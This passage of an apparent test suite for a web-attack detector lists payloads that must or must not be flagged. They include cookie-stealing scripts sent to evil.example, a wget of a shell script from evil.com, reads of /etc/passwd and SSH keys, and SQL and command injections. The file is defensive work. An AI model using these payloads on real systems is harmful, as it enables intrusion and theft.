  for (const raw of ['h%74%74ps://evil.com', 'https://e%76il.com', 'https://evil%2Ecom', '%68%74%74%70%73%3a%2f%2fevil.com']) t.ok(target(raw).includes('open_redirect'), raw)
  t.ok(json({ redirect_uri: '%68%74%74%70%73%3a//evil.com' }).includes('open_redirect'), 'in a JSON field named for a redirect')
  for (const p of ['/%09https://evil.com', '/%09evil.com']) t.ok(path(p).includes('open_redirect'), p)
  // a plain URL (decided), an encoded slash or colon only (a client's encoding), the site's own host encoded, a URL under no redirect parameter
  for (const raw of ['https%3A%2F%2Fevil.com', 'https://evil.com', 'https://sh%6Fp.example.com/a', 'https://a.example/x?b=1,https://c.example']) t.notOk(target(raw).includes('open_redirect'), raw)
  t.notOk(target('h%74%74ps://evil.com', 'q').includes('open_redirect'), 'under no redirect parameter')
  t.notOk(path('/docs/%09intro').includes('open_redirect'), 'a blank in a later segment')
})

// ---- thirteenth round (issue 22): a program's comment blocks, closing lines, DOM use, type arguments, address-of and statements ----

t.test("false positives (thirteenth round): a program's comment lines and closing lines make it one; its first comment line is text", async (t) => {
  // a Go doc comment naming elements, a declaration after it: its `//` lines count as the program's (three or more)
  const doc = '\t// XFrameOptions tells whether a browser should\n\t// be allowed to render a page in a <frame>, <iframe> or <object> .\n\t// Optional. Default value "SAMEORIGIN".\n\tXFrameOptions string'
  // a test's callbacks closed on lines of their own (`});`), its DOM its own
  const spec = "    axios('/x');\n\n    get().then(function (request) {\n      expect(request.headers[name]).toEqual(undefined);\n      done();\n    });\n  });\n\n  it('reads the cookie', function (done) {\n    document.cookie = name + '=12345';\n    done();\n  });"
  for (const p of [doc, spec]) t.notOk(q(p).includes('xss'), p.slice(0, 40))
  // markup or a DOM sink outside a program still counts; a comment block's payload after it too
  for (const p of ['<iframe src=//evil.example>', "document.cookie='a='+1", "<script>document.location='//evil.example/?'+document.cookie</script>"]) t.ok(q(p).includes('xss'), p)
  t.ok(q('// one\n// two\n// three\n<img src=x onerror=alert(1)>').includes('xss'), 'markup after comment lines')
})

t.test("false positives (thirteenth round): a program's type arguments, address-of operands and statements on lines of their own", async (t) => {
  const rust = "    #[inline]\n    fn poll_frame(\n        mut self: Pin<&mut Self>,\n    ) -> Poll<Option<Result<Frame<Self::Data>, Self::Error>>> {\n        Pin::new(&mut self.inner).poll_frame(cx)\n    }\n\n    fn is_end_stream(&self) -> bool {\n        self.inner.is_end_stream()\n    }\n\n    fn size_hint(&self) -> SizeHint {\n        self.inner.size_hint()\n    }"
  t.notOk(q(rust).includes('xss'), 'generic types')
  const go = 'func StatusCode(err error) int {\n\tvar sc HTTPStatusCoder\n\tif errors.As(err, &sc) {\n\t\treturn sc.StatusCode()\n\t}\n\treturn 0\n}'
  t.notOk(q(go).includes('rce'), "Go's &sc")
  const ret = 'func ignorable(err error) bool {\n\tif os.IsNotExist(err) {\n\t\treturn true\n\t}\n\tvar pErr *fs.PathError\n\treturn false\n}'
  t.notOk(q(ret).includes('nosqli'), 'return true in a block, then a declaration')
  // the same shapes as payloads
  for (const p of ['x<frame src=javascript:alert(1)>', '<frameset onload=alert(1)>']) t.ok(q(p).includes('xss'), p)
  for (const p of ['a & sc query', '& sc stop windefend', '1&whoami']) t.ok(q(p).includes('rce'), p)
  for (const p of ["'){return true;} var x=('"]) t.ok(q(p).includes('nosqli'), p)
})

t.test('rce (thirteenth round): a whole value that is a separator then one command line, whatever the program', async (t) => {
  for (const p of ["; bzgrep 'pattern' file.bz2", '&& dmesg', '|| mysqlshow', '| pgrep sshd', '& diskshadow &', ') & msinfo32 &', '& echo Hello, world &', '$(cpp file.c)', '; ftpwho']) {
    t.ok(shellInjection(p.toLowerCase()), p)
    t.ok(q(p).includes('rce'), p)
  }
  // one word after a weak separator alone, a table's row, a substitution of one word (jQuery's `$(this)`), prose around the separator
  for (const p of ['| Home', '& Co', '| name | value |', '$(this)', '$(document)', 'Tom & Jerry', 'see above; then go', '& more text, and more. then']) t.notOk(q(p).includes('rce'), p)
})

// ---- fourteenth round (issue 22): tuned on the spent eighth part's template, LDAP, splitting, SSRF and redirect misses ----

t.test('ssti (fourteenth round): literals joined, introspection through braces, a class walked to globals, FreeMarker special variables', async (t) => {
  for (const p of ["{{'okr'+'scn'}}", "${'SSTI'+'TEST'}", '{{"a"~"b"}}', '{{123456789*9876543210}}', '{{{}.__class__.__base__.__subclasses__()}}', "#{config.class.init.globals['os'].popen('id').read}", '${.version}', '${.data_model}']) t.ok(q(p).includes('ssti'), p)
  // a message's placeholders and sums in prose; a greeting with two placeholders; an object's fields
  for (const p of ["{{name}} + {{email}}", "Hello {{first}} {{last}}", '${user.name}', "it's 'a'+'b' in JS", '{{ item.price }}', '${.5em}']) t.notOk(q(p).includes('ssti'), p)
  // (review) a class's name in a program's string (Python's f-string with literal braces, Ruby's and Groovy's interpolation)
  for (const p of ['f"{{ {self.__class__.__name__} }}"', '"${this.class.superclass.name}"', 'log.info "${obj.class.module}"']) t.notOk(q(p).includes('ssti'), p)
})

t.test('ldapi (fourteenth round): any attribute description after the break-out, an operator before the clause, an LDAP URL\'s scope and filter', async (t) => {
  for (const p of ['*)(cn:dn:=admin))', '*)(cn:caseExactMatch:=Admin))', '*)(userAccountControl:1.2.840.113556.1.4.803:=2))', '*)(2.5.4.35=*))', '*)(.2.5.4.3=*))', '*)|(objectClass=*))', '*)\uff5c(objectClass=*))', '*)(\u0000))', '?sub??(objectClass=*)', '?base??(cn=*)']) t.ok(q(p, 'user').includes('ldapi'), p)
  // code with doubled parentheses and comparisons; a shell's arithmetic on lines of their own; a question with a scope word
  for (const p of ['if ((a)) | (b == c) {', '    (( n = n > 0 ? n : $? ))\n    (( n == 0 )) && rm "$f"', 'f(x)) & (y == 2)', 'is it ?sub? or (not)']) t.notOk(q(p, 'user').includes('ldapi'), p)
  // (review) a call's result called again with a keyword argument or an arrow function; a regex's alternation
  for (const p of ['hook = getattr(mod, get_name(x))(config=cfg)', 'foo(bar(x))(key=value)', 'promise.then((res))(x => x)', 'useState(0))(count=1)', '((a))|(b=c)']) t.notOk(q(p, 'user').includes('ldapi'), p)
  t.ok(q('(&(!(objectClass=Impresoras))(uid=s*))', 'user').includes('ldapi'), 'a clause with a wildcard after a closed one')
})

t.test('crlf (fourteenth round): a value opening on a break, a status line first, blanks before the break, a NUL before it, a break inside a break', async (t) => {
  for (const p of ['\r\nInjected: true', '\nInjected: true', '\ntest', '\r\r\r\rINJECTX\r\r\r', 'foo\u0000\r\nbar', 'HTTP/1.1 200 OK\nContent-Type: text/html\n\nhello', '200 OK\nContent-Type: text/html', 'foobar \r\nContent-Length: 0 \r\n']) t.ok(q(p, 'lang').includes('crlf'), JSON.stringify(p))
  t.ok(detector.detect({ ...base, query: 'next=foo%%0d0d%%0a0abar' }).includes('crlf'), 'a break encoded inside a break')
  // a message's lines; a form's text opening on a break and going on as prose
  for (const p of ['Hello there\nHow are you', '\nThanks for the order, see you soon', 'Dear team,\nPrice: 10 EUR', '\n\n']) t.notOk(q(p, 'lang').includes('crlf'), JSON.stringify(p))
  // (review) addresses whose first line opens on a street number (no status line), a field opening on a break then
  // several words or lines, a Windows path from its drive's root, a percentage before a break
  for (const p of ['221 Baker Street\nLondon\nE-mail: sh@example.com', '350 Fifth Avenue\nNew York, NY 10118\nPhone:+1 212 736 3100', '100 Main St\nTel:5551234', '123 Main St\nX-ray department, 2nd floor', '123 Main Street\nPick-up: Monday', '\nName: John\nPhone: 555', '\nNote: call first', '\r\nStreet: Main 1', '\nFrom: John\nSent: Monday\nSubject: hi', '\\Reports', '\\network', '\\Release\\x64', 'Progress 100%\n0a left', '\nhttps://my.site.example/', '\n12345', '\r\n42']) t.notOk(q(p, 'message').includes('crlf'), JSON.stringify(p))
})

t.test('ssrf (fourteenth round): an IPv4 address with a port, a raw query that is a target, loopback names, metadata in a name', async (t) => {
  for (const p of ['127.0.0.1:443', '0.0.0.0:22', '10.0.0.1:80', '[0:0:0:0:0:ffff:127.0.0.1]:8000', 'loopback:8000', 'ipcop.localdomain:8443', 'ssrf-169.254.169.254.localdomain.pw']) t.ok(q(p, 'url').includes('ssrf'), p)
  for (const raw of ['127.0.0.1:22', '%5B::%5D:22', 'http://169.254.169.254/latest/meta-data/', 'localhost:80']) t.ok(detector.detect({ ...base, query: raw }).includes('ssrf'), `?${raw}`)
  // a time, a version, a public address with a port, a public URL as the query; a page and a number
  for (const raw of ['12:30', '1.2.3', 'v1.2.3', 'page:2', 'https://example.com/x', '93.184.216.34:443']) t.notOk(detector.detect({ ...base, query: raw }).includes('ssrf'), `?${raw}`)
  for (const p of ['93.184.216.34:443', 'example.com:8080', '12:30']) t.notOk(q(p, 'url').includes('ssrf'), p)
  // (review) a JSON array's strings have an empty key too: a list of brokers is no query that is one target
  t.notOk(json(['10.0.0.1:9092', '10.0.0.2:9092']).includes('ssrf'), 'a JSON array of host:port strings')
})

t.test('open_redirect (fourteenth round): a disguised target handed on by a URL\'s own redirect parameter, a climb into a protocol-relative URL', async (t) => {
  for (const p of ['https://target.example/logout?returnTo=///evil.example/', 'https://target.example/login?continue=http:/evil.example', 'https://target.example/auth/post-login?redirect=/\\evil.example', '/auth/post-login?redirect=/..//evil.example', '/..//evil.example']) t.ok(q(p, 'next').includes('open_redirect'), p)
  t.ok(detector.detect({ ...base, path: '/..//evil.example' }).includes('open_redirect'), 'a path climbing into //host')
  // an OAuth flow handing a plain URL on, a relative return page, a nested page name
  for (const p of ['https://auth.example/authorize?client_id=1&redirect_uri=https://app.example.org/cb', 'https://example.com/login?next=/dashboard', 'https://example.com/login?next=index.html', '/account?return_to=/orders/12']) t.notOk(q(p, 'next').includes('open_redirect'), p)
})

t.test('xss (fourteenth round): sinks reached through data: URLs, numbers and arguments; markup with + for blanks, DOM clobbering, AngularJS directives', async (t) => {
  for (const p of ["new EventSource('data:,alert(1)');", 'data:application/x-javascript,alert(1)', 'eval(1558153217..toString(36))(1)', 'eval(0x258da033.toString(30))(1)', 'parseInt("prompt",36);', 'Promise.resolve(alert(3));', '"><img+src=z+onerror=console.log(', '<a id=defaultView name=alert href=1>click me</a>', '<object id=cookie name=__proto__><param name=value value=XSS></object>', '<input ng-cut=$event.composedPath()|orderBy:\'(y=alert)(1)\'>', '"onm<>ouseover="ale<>rt(0)', "<div style='binding:url(xss.xml)'>test</div>", 'x[javascript:alert(1)]', '\u2018 onfocus=\u2019alert(1)\u2019']) t.ok(q(p).includes('xss'), p)
  // a form's fields, a number's conversion, generics, an alert with a message, prose on data URLs
  for (const p of ['<textarea name="body"></textarea>', '<input name="domain" id="domain">', 'n.toString(36)', 'List<>x', 'alert me when it ships', 'a data: URL holds text/plain, like data:,Hello']) t.notOk(q(p).includes('xss'), p)
  // (review) a form's and a page's ordinary names, quoted; AngularJS handlers passing $event next to a class or a scope method
  for (const p of ['<textarea name="prompt" id="prompt" rows="4"></textarea>', '<input type="password" name="confirm" id="confirm">', '<input type="checkbox" name="confirm" value="1"> I agree', '<div id="alert" class="alert alert-danger" role="alert">Error</div>', '<input name="attributes" type="hidden">', '<div ng-click="toggle($event)" class="alert alert-info">Hi</div>', '<a ng-click="open($event, \'confirm\')">x</a>', '<input ng-keyup="onKey($event)" ng-class="{alert: hasError}">']) t.notOk(q(p).includes('xss'), p)
  t.ok(q('<form id=alert name=alert><input name=call>').includes('xss'), 'unquoted clobbering names')
  // (review) after `/`, `#` or `[`, the no-op link a crawler resolves into a URL, a hashtag then prose
  for (const p of ['https://shop.example.com/category/javascript:void(0)', 'https://shop.example.com/p/javascript:;', '[javascript:void(0)]', 'see #javascript: (part 1)']) t.notOk(q(p).includes('xss'), p)
  for (const p of ['/javascript:alert(1)', '#javascript:alert(document.domain)', 'a/javascript:void(alert(1))']) t.ok(q(p).includes('xss'), p)
  // (review) a module written inline as a data: URL, as Node's documentation shows, is a program's; one reaching a sink is not
  for (const p of ["import x from 'data:text/javascript,export default 42'\nconsole.log(x)", 'import "data:text/javascript,console.log(\'hello!\');"']) t.notOk(q(p).includes('xss'), p)
  for (const p of ['<script src="data:text/javascript,alert(document.domain)"></script>', 'data:text/javascript;base64,YWxlcnQoMSk=']) t.ok(q(p).includes('xss'), p)
  // in a program's source a sink called in its own code stays its own
  t.notOk(q("function a() {\n  return Promise.resolve(alert(3));\n}\nconst b = 1\n").includes('xss'), "a program's own sink")
})

t.test('path_traversal (fourteenth round): a climb to a server\'s own file, a system location without its slash under a file parameter', async (t) => {
  for (const p of ['..%2fsettings.php', '....//env.php', '../.user.ini', '..%2fwp-content/debug.log', '../config.asp', '....//wp-content/debug.log']) t.ok(q(p).includes('path_traversal'), p)
  for (const p of ['var/log/apache2/access.log', 'proc/version', 'etc/nginx/nginx.conf', 'var/www/html/index.php']) t.ok(q(p, 'file').includes('path_traversal'), p)
  // a user's relative paths, a docs path under a file parameter, a system-looking path elsewhere
  for (const p of ['../avatar.jpg', '../README.md', 'var/log/x.log']) t.notOk(q(p).includes('path_traversal'), p)
  for (const p of ['docs/intro.md', 'images/2024/a.png']) t.notOk(q(p, 'file').includes('path_traversal'), p)
  // (review) a PHP, ASP or JSP site's relative link to its own page; a site's sections named like system folders
  for (const p of ['../index.php', '../admin/index.php', '../catalog/list.asp', '../default.aspx', '../index.jsp']) t.notOk(q(p, 'back').includes('path_traversal'), p)
  for (const p of ['windows/getting-started', 'windows/install.md', 'windows/10/setup', 'proc/overview', 'etc/notes.txt']) t.notOk(q(p, 'page').includes('path_traversal'), p)
  for (const p of ['../config.inc.php', '..%2fdebug.php', 'etc/passwd', 'windows/win.ini', 'proc/self/environ']) t.ok(q(p, 'page').includes('path_traversal'), p)
  // (review) the gate let through only locations with a server file's extension: system files without one are judged now, a docs site's and a file manager's paths are not
  for (const p of ['home/user/.bash_history', 'root/.ssh/id_rsa', 'var/log/syslog', 'var/www/html/.env', 'sys/class/net/eth0/address', 'boot/grub/grub.cfg']) t.ok(q(p, 'file').includes('path_traversal'), p)
  for (const p of ['usr/share/doc/bash/README', 'usr/local/share/man/man1/node.1', 'var/www/uploads/a.png', 'var/tmp/upload-123.csv']) t.notOk(q(p, 'file').includes('path_traversal'), p)
})

t.test("open_redirect (fourteenth round): blanks before a URL, a break after the slash, encoded climbs into a host, the site's name in another's authority", async (t) => {
  for (const p of ['\thttps://evil.example', '/\r\nevil.example', '/\nevil.com', '/..%2fevil.example', '/..;/evil.com', 'https://example.com.evil.example', 'https://evil.example#example.com/', 'https://evil.example/?example.com', 'https://evil.example/x@example.com']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
  // our own host after blanks, a sibling of ours, another site with our name in its path (a lookup, an archive)
  for (const p of ['\thttps://shop.example.com/x', 'https://mail.example.com/inbox', 'https://whois.example.net/example.com', 'https://web.archive.example/web/2020/example.com/']) t.notOk(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
  // (review) an address at our site in another site's query (an identity provider's login hint, a calendar, a mail
  // composer); our site's name inside another name; a climb to a page or a file of ours
  for (const p of ['https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fshop.example.com%2Fcb&login_hint=alice@example.com', 'https://accounts.google.com/AccountChooser?Email=john@example.com&continue=https://shop.example.com/', 'https://calendar.google.com/calendar/embed?src=team@example.com', 'https://outlook.office.com/mail/deeplink/compose?to=support@example.com', 'https://notexample.com/', 'https://myexample.com/page', 'https://example.community/', '/../index.html', '/../app.js', '\\..\\readme.txt', '\nhttps://accounts.example.com/', '\thttps://mail.example.com/x', 'https://www.example.com.br/', 'https://example.com.au:443/x']) t.notOk(q(p, 'next').length > 0, JSON.stringify(p))
  t.ok(q('https://example.com.br.evil.example/', 'next').includes('open_redirect'), 'our site and a country code as labels of another host')
  t.ok(q('https://evil-example.com', 'next').includes('open_redirect'), 'our site after a dash: a look-alike')
  // (review) a bare name or address in another URL's query is its data (a referrer, a destination, a cursor) unless the parameter is named for a URL
  for (const p of ['https://analytics.example.net/c?u=12345&r=news.ycombinator.com', 'https://travel.example.org/search?from=LHR&to=cdg.fr', 'https://www.booking.example/search?dest=barcelona.es', 'https://api.example.com/v1/items?next=eyJpZCI6MTIzfQ.abc', 'https://shop.example.com/cart?r=1.2.3.4']) t.notOk(q(p, 'next').includes('open_redirect'), p)
  t.ok(q('http://target.example/?url=evil.com', 'next').includes('open_redirect'), 'a bare host under a nested url parameter')
  // a fully qualified Host's root dot is no label (its site is not `com.`)
  for (const target of ['https://www.google.com.au/', 'https://www.amazon.com.br/x']) t.notOk(detector.detect({ ...base, headers: { host: 'shop.example.com.' }, query: `next=${encodeURIComponent(target)}` }).includes('open_redirect'), `${target} from shop.example.com.`)
  t.ok(detector.detect({ ...base, headers: { host: 'shop.example.com.' }, query: `next=${encodeURIComponent('https://example.com.evil.example/')}` }).includes('open_redirect'), 'our site in another authority, from a fully qualified Host')
  // a short site's name inside other sites' names
  for (const [host, target] of [['api.x.com', 'https://www.dropbox.com/s/abc'], ['www.ing.com', 'https://www.booking.com/'], ['www.bbc.co.uk', 'https://www.cbbc.co.uk/']]) {
    t.notOk(detector.detect({ ...base, headers: { host }, query: `next=${encodeURIComponent(target!)}` }).includes('open_redirect'), `${target} from ${host}`)
  }
})

// ---- fifteenth round (issue 22): the ninth part's false positives (measured once, then spent) ----

t.test("false positives (fifteenth round): an echo of nothing, a program's conditions, Go's :=, TypeScript's declarations, a method named execute", async (t) => {
  const pkg = { name: 'test-app', version: '0.0.1', private: true, scripts: { dev: 'vite dev', build: 'vite build && tsc', prepare: 'svelte-kit sync || echo \'\'', check: 'svelte-kit sync && tsc && svelte-check' }, devDependencies: { vite: '^7.0.0' } }
  t.notOk(json(pkg).includes('rce'), "an echo of nothing ignores a failure")
  t.notOk(q("svelte-kit sync || echo ''").includes('rce'), 'an echo of nothing, alone')
  t.ok(q('a || echo pwned_marker').includes('rce'), 'an echo of a marker still counts')
  t.ok(q("x; wh''oami").includes('rce'), 'quotes splitting a word are still folded')
  t.ok(json({ name: 'x', description: '; cat /etc/passwd' }).includes('rce'), 'a command elsewhere in the same shape still counts')
  const go = '\tif protoMajor == 2 {\n\t\t_, ps := w.(http.Pusher)\n\t\tif fl && ps {\n\t\t\treturn &http2FancyWriter{bw}\n\t\t}\n\t}\n\tif fl && hj {\n\t\treturn &flushHijackWriter{bw}\n\t}'
  t.notOk(q(go).includes('rce'), "a Go condition's && ps")
  const server = '\t\tw.Write([]byte("OK"))\n\t})\n\n\tserver := http.Server{\n\t\tAddr:    ":7072",\n\t}\n\tgo server.ListenAndServe()'
  t.notOk(q(server).includes('crlf'), "Go's server := after a line break")
  const ts = "declare module '__SERVER__/internal.js' {\n\texport const options: import('types').SSROptions;\n\texport const get_hooks: () => Promise<Partial<import('types').ServerHooks>>;\n}\n"
  t.notOk(q(ts).includes('xss'), "TypeScript's declared module and its type arguments")
  t.notOk(q('    async execute(method, request, options) {').includes('sqli'), 'a method named execute')
  // the shapes these rules keep
  for (const p of ["'; exec('sel'+'ect 1')--", "'; exec(@q)--", '1; execute(\'drop table users\')']) t.ok(q(p).includes('sqli'), p)
  for (const p of ['x && ps aux', 'a || cat /etc/passwd']) t.ok(q(p).includes('rce'), p)
  t.ok(q('foo\r\nServer: evil').includes('crlf'), 'a Server header after a break')
})

// ---- sixteenth round (issue 22): tuned on the spent ninth part's template, NoSQL and redirect misses ----

t.test('ssti, nosqli and open_redirect (sixteenth round): literal expressions and filters, code and update operators, homographs', async (t) => {
  for (const p of ['{{7<8}}', '{{7 is 7}}', '{{7 in [7]}}', '{{7*7 and 1}}', '{{49//1}}', '{{((7*7))}}', '{{True}}', "{{'/'|passthru}}", "{{['o','s']|join}}", '{{request|string}}', "${'test'?upper_case}", '${"x"*7}', "#{'.'*77}", '#{function(){return 7*7}()}', '<%namespace name="os" file="os" />']) t.ok(q(p).includes('ssti'), p)
  // placeholders, a filter on a variable, CI variables, a sum in a sentence
  for (const p of ['{{ user.name }}', '${JOB_NAME}', '{{ price | currency }}', '{{count}} items, {{ total | money }}', 'add 7 < 8 to the list']) t.notOk(q(p).includes('ssti'), p)
  for (const doc of [{ $code: 'function() { return true; }' }, { $where: '1', $js: 'x' }, { username: 'admin', $set: { role: 'admin' } }, { 'username.$gt': '' }]) t.ok(json(doc).includes('nosqli'), JSON.stringify(doc))
  // a JSON-logic document's own operators, a field's path with a dot, a price
  for (const doc of [{ $let: { x: [10, 30] }, in: { $reverse: { $sort: { $eval: 'x' } } } }, { 'user.name': 'ann' }, { price: '$5' }]) t.notOk(json(doc).includes('nosqli'), JSON.stringify(doc))
  t.ok(q('https://\u0435vil.com', 'next').includes('open_redirect'), 'a Cyrillic е among Latin letters')
  for (const p of ['https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/', 'https://\u043f\u0440\u0438\u043c\u0435\u0440.com/']) t.notOk(q(p, 'next').includes('open_redirect'), `${p}: one script a label`)
})

t.test("rce (sixteenth round): other languages' process calls, PHP callbacks, shell arithmetic echoed, an assignment from a substitution after a separator, cmd's carets", async (t) => {
  for (const p of ['&&echo$IFSHETHMD$((47+99))$(echo HETHMD)HETHMD', '; str=$(echo UBLMDF); str1=${#str}; if [ 4 -ne ${str1} ]; then sleep 0; else sleep 4; fi', "IO.popen('id').read()", "Process.spawn('ls')", 'exec.Command("id").Run()', 'qx{ls}', '<cfexecute name="ls">', "register_shutdown_function('system','ls');"]) t.ok(q(p).includes('rce'), p)
  t.ok(shellInjection('& w^hoami') && shellInjection('& cm^d /c dir'), "cmd's carets between letters folded")
  // arithmetic on variables, a program's own process call, carets in maths, a script's assignments on their own lines
  for (const p of ['total=$((price*2))', 'cmd := exec.Command("git", "status")', 'the formula is x^y and a^b']) t.notOk(q(p).includes('rce'), p)
  const script = '#!/bin/sh\nopen_ticket () {\n  if [ ! -f .url ]; then\n    return 0\n  fi\n  url=$(cat .url)\n  echo "$url"\n}'
  t.notOk(q(script).includes('rce'), "a shell script's own substitutions")
})

// ---- seventeenth round (issue 22): the spent ninth part's SSRF and LDAP misses ----

t.test('ssrf and ldapi (seventeenth round): JDBC URLs by their host, a jar entry, a method before a URL; wildcard-first filters, the true filter after a break-out, extensible matches by OID', async (t) => {
  for (const p of ['jdbc:mysql://127.0.0.1:3306/mysql', 'jdbc:postgresql://127.0.0.1:5432/postgres', 'jdbc:oracle:thin:@127.0.0.1:1521:XE', 'jar:127.0.0.1!/', 'GET http://localhost:80', 'POST http://169.254.169.254/latest']) t.ok(q(p, 'url').includes('ssrf'), p)
  // a configuration's JDBC URL with placeholders or a public host, a method word before a public URL
  for (const p of ['jdbc:postgresql://{postgres.host}:{postgres.port}/catalogdb', 'jdbc:mysql://db.example.com:3306/app', 'GET https://api.example.com/v1']) t.notOk(q(p, 'url').includes('ssrf'), p)
  t.notOk(json({ catalogdb_jdbcconnectionstring: 'jdbc:postgresql://{postgres.bindings.tcp.host}:{postgres.bindings.tcp.port}/catalogdb' }).includes('ssrf'), "a service's connection string")
  for (const p of ['*|(objectclass=*)', '*)|(&)', '*(|(sAMAccountName=Administrator))', '*(|(uid=a*))', 'admin)(sAMAccountName:1.2.840.113556.1.4.803:=512)']) t.ok(q(p, 'user').includes('ldapi'), p)
  for (const p of ['*(see note)', 'x*(a|b)', 'rate*(1+tax)', 'f(x)(y=2)']) t.notOk(q(p, 'user').includes('ldapi'), p)
})

t.test('rce (seventeenth round): a timing oracle, a shell variable given -c, a recon command in backticks handed to a print, PHP sinks by callback, in parentheses or encoded, .NET and Lua process calls, a command closed by a doubled separator', async (t) => {
  for (const p of ['\n str=$(echo ECBRPQ)\n str1=${#str}\n if [ 5 -ne ${str1} ]\n then sleep 0\n else sleep 5\n fi', ";$BASH -c 'id'", 'print `id`', 'exit(`ls`);', "(system)('ls');", "array_walk(array('ls'),'system');", "$a=strrev('metsyS');$a('ls');", "$a=str_rot13('flfgrz');$a('ls');", "$a=base64_decode('c3lzdGVt');$a('ls');", '<%=System.Diagnostics.Process.Start("cmd.exe","/c dir")%>', "load(os.execute('ls'))", '&&vmstat&&', '||kubectl get nodes||']) t.ok(q(p).includes('rce'), JSON.stringify(p))
  // a date in backticks, a template literal printed, a string reversed, a sleep in one branch of a script
  for (const p of ['echo `date`', 'print(`hello`)', "strrev('hello')", 'if [ -f x ]; then sleep 1; fi']) t.notOk(q(p).includes('rce'), p)
})

// ---- eighteenth round (issue 22): the spent tenth part's XXE misses and false positives ----

t.test("eighteenth round: XXE written with + for blanks; an ad-blocking filter, a backreference host, Ruby's conditions, a program's comment lines, a call statement's line", async (t) => {
  const xxe = '<?xml+version="1.0"?><!DOCTYPE+foo+[<!ELEMENT+foo+ANY><!ENTITY+xxe+SYSTEM+"http://c7f3k2.oast.example.net">]><foo>&xxe;</foo>'
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from(xxe) }).includes('xxe'), 'a DOCTYPE with + for its blanks')
  t.ok(q('<!DOCTYPE+x+[<!ENTITY+%+xxe+SYSTEM+"http://c7f3k2.oast.example.net/">%xxe;]><x/>').includes('xxe'), 'in a value too')
  t.notOk(q('<!doctype html><p>a+b=c</p>').includes('xxe'), 'a page with a plus in it')
  // ad-blocking filters, a redirect rule's backreference, Ruby's modifiers, comment lines, a user script's call
  t.same(json([{ id: 1, condition: { urlFilter: '||example.com', resourceTypes: ['main_frame'] }, action: { type: 'block' } }]), [], "a filter's ||host")
  t.same(json([{ id: 4, action: { type: 'redirect', redirect: { regexSubstitution: 'https://\\1?redirected_by_regex' } }, condition: { regexFilter: '^https://www\\.(abc|def)\\.xyz\\.com/' } }]), [], "a rule's https://\\1")
  const ruby = "    def lookup(file, paths)\n      found, stat = figure_path(file, paths)\n      return nil unless found && stat && stat.mtime\n      @cache[file] = found\n      return found\n    end"
  t.notOk(q(ruby).includes('rce'), "Ruby's next unless a && stat")
  const gm = '// This user script should not get access to privileged APIs.\nif (typeof GM_info !== "undefined") {\n  alert("Unexpectedly, GM_info is defined...?");\n}'
  t.notOk(q(gm).includes('xss'), "a user script's own alert")
  // the shapes kept
  for (const p of ['||whoami', '&& cat /etc/passwd', '; ls -la']) t.ok(q(p).includes('rce'), p)
  t.ok(q('https://\\\\l\\\\o\\\\c\\\\a\\\\l\\\\h\\\\o\\\\s\\\\t/', 'url').includes('ssrf'), 'escapes between a host\'s letters still read')
  t.ok(q('<img src=x onerror=alert(1)>').includes('xss'), 'markup outside a program')
})

t.test('a JSON body cut at maxInspectBytes: its complete members are read as JSON, not as text (eighteenth round)', async (t) => {
  const scripts = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`task${i}`, `pnpm run --dir packages/p${i} build && vitest run && echo ''`]))
  const manifest = { name: 'big', version: '1.0.0', scripts, files: Array.from({ length: 2000 }, (_, i) => `dist/file-${i}.js`) }
  const body = Buffer.from(JSON.stringify(manifest))
  t.ok(body.length > 16 * 1024, 'longer than the inspected bytes')
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body }), [], "a large manifest's scripts stay command fields")
  const attack = Buffer.from(JSON.stringify({ q: "' union select password from users--", pad: 'x'.repeat(20000) }))
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: attack }).includes('sqli'), 'an attack before the cut is still found')
})

// ---- nineteenth round (issue 22): the spent tenth part's SQL, command, script and template misses, by kind ----

t.test('sqli (nineteenth round): stacked statements cut by a comment, COPY … TO PROGRAM, a statement in parentheses after a separator, constants compared, signed numbers, sub-queries in calls, MySQL names in backticks, 1.e(', async (t) => {
  for (const p of [
    "1'; SHOW TABLES--", "1'; UNLOCK TABLES--", "1'; COMMIT WORK--", "1'; NULLIF(1,1)--", "1'; DESCRIBE users--",
    ";copy (SELECT '') to program 'nslookup x.oastify.com'", ";(SELECT SYS.DBMS_LDAP.INIT('x.oastify.com',80) FROM DUAL)",
    "; SELECT 1 INTO OUTFILE '/var/www/x.php'", '1=1--', '0 > -1', 'FALSE = FALSE', 'NULL <=> 1', "1 LIKE '1%'", '1 NOT IN (1,2,3)',
    '1 OR TRUE#', '1 OR -1=-1', '1 AND -1=-1', 'CAST((SELECT 1) AS INT)', 'CONVERT((SELECT 1),INT)',
    "ascii(substring((select password from users limit 1,1),1,1)) = 70 or '1'='2",
    "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or '1'='2",
    '1`=`1` AND ELT(1337=1337,SLEEP(5)) AND `1`=`1', '`=`1` AND (SELECT 1337 FROM (SELECT(SLEEP(5)))YYYY) AND `1`=`1',
  ]) t.ok(q(p).includes('sqli'), p)
  // prose with a quote, a semicolon and a dash; a copy in parentheses; numbers in a sentence; code spans that pair
  for (const p of [
    '"Lord----"; but Arthur interrupted him:--', 'Copy (select all) then paste', 'I have 2 cats and 1 dog', 'version 1.2 or later',
    'Use `ls -la` and `cat file` to see what is there, then `rm` it', 'price: 5 > 3 stars', 'Tom\'s box; note--',
  ]) t.notOk(q(p).includes('sqli'), p)
})

t.test('rce (nineteenth round): an interpreter given its run option, a download from an out-of-band host, a redirected reader, a variable holding a program, a brace list, the field separator, a lone recon program after a pipe, remote inclusion', async (t) => {
  for (const p of [
    'cmd /c net user', 'cmd.exe /c net user administrator password123', 'powershell.exe -command "Get-Process"', '%COMSPEC% /c dir',
    "node -e 'console.log(\"test\")'", "lua -e 'print(\"test\")'", 'curl -sk http://84ab8biczjsb682bxde348roefk58u.oastify.com',
    'cat</etc/passwd', 'cat<>/etc/passwd', 'x=cat;$x /etc/passwd', '|x=cat;$x /etc/passwd', 'cat /etc/passwd #', '{wget,http://evil.com/shell.sh}',
